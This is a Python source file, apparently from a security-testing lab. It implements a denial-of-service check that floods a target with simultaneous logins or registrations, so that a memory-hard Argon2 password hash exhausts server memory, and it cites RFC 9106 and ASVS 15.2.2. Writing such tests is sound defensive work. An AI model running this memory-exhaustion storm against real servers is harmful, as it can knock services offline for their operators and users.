"""Take all memory of the server with what many send at once.

Exploits a hash that needs much memory on purpose, where nobody counts how many are made at once.
A graphics card has no room for many of them; neither has the server, if it makes one for each
login or registration that somebody sends.
Source: RFC 9106 Argon2, section 4 Parameter Choice,
https://www.rfc-editor.org/rfc/rfc9106.html#section-4
ASVS: 15.2.2
"""

import os
from collections.abc import Callable
from functools import partial

import httpx

from attacks.lab.attack import attack
from attacks.lab.memory import growth_during, servers_of
from attacks.lab.outcome import Outcome, got_in, refused
from attacks.lab.storms import storm
from attacks.lab.target import NotApplicableError, Person, Target

MANY, ALONE = 32, 3
FEW = (MANY + (os.cpu_count() or 1)) // 2  # half-way between a hash a core and a hash a request
MUCH = 2**23  # bytes: with less for each request, no storm fills a server


def kinds(target: Target) -> dict[str, Callable[[], httpx.Request]]:
    """Say what makes the server hash: each registration is of someone new."""
    login = target.enrol().login()
    return {
        "registrations": lambda: target.register_request(Person()),
        "logins": lambda: target.login_request(login["username"], login["password"]),
    }


@attack(full_cost=True, storm=True)
def run(target: Target) -> Outcome:
    """See what one request takes, then what many at once do."""
    servers, tried = servers_of(target), []
    for kind, new in kinds(target).items():
        first, *others = [new() for _ in range(1 + ALONE + MANY)]
        target.http.send(first)
        alone, crowd = others[:ALONE], others[ALONE:]
        one = max(growth_during(servers, partial(target.http.send, it)) for it in alone)
        if one < MUCH:
            continue
        after = growth_during(servers, partial(storm, crowd, target.page()))
        if after > FEW * one:
            return got_in(f"{MANY} {kind} at once take the memory of more than {FEW}")
        tried.append(f"{MANY} {kind}")
    if not tried:
        raise NotApplicableError("neither a login nor a registration takes much memory")
    return refused(f"{', '.join(tried)} at once take the memory of a few")
